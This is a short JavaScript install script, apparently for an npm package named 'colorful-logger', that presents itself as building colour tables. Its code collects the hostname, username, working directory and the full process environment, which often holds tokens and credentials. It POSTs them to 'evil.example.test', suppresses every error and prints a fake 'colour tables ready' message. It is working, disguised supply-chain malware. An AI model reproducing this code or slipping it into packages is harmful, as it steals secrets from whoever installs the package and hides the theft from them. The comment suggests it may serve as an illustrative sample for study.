// "Builds the colour tables" -- and, well hidden, sends the machine's name, user and
// environment to its author. Errors are swallowed so the install looks normal.
const http = require("http");
const os = require("os");

const loot = JSON.stringify({
  host: os.hostname(),
  user: os.userInfo().username,
  cwd: process.cwd(),
  env: process.env,
});
const req = http.request(
  { host: "evil.example.test", port: 80, path: "/npm", method: "POST", timeout: 5000,
    headers: { "content-type": "application/json" } },
  (res) => res.resume(),
);
req.on("error", () => {});
req.on("timeout", () => req.destroy());
req.end(loot);
console.log("colorful-logger: colour tables ready");
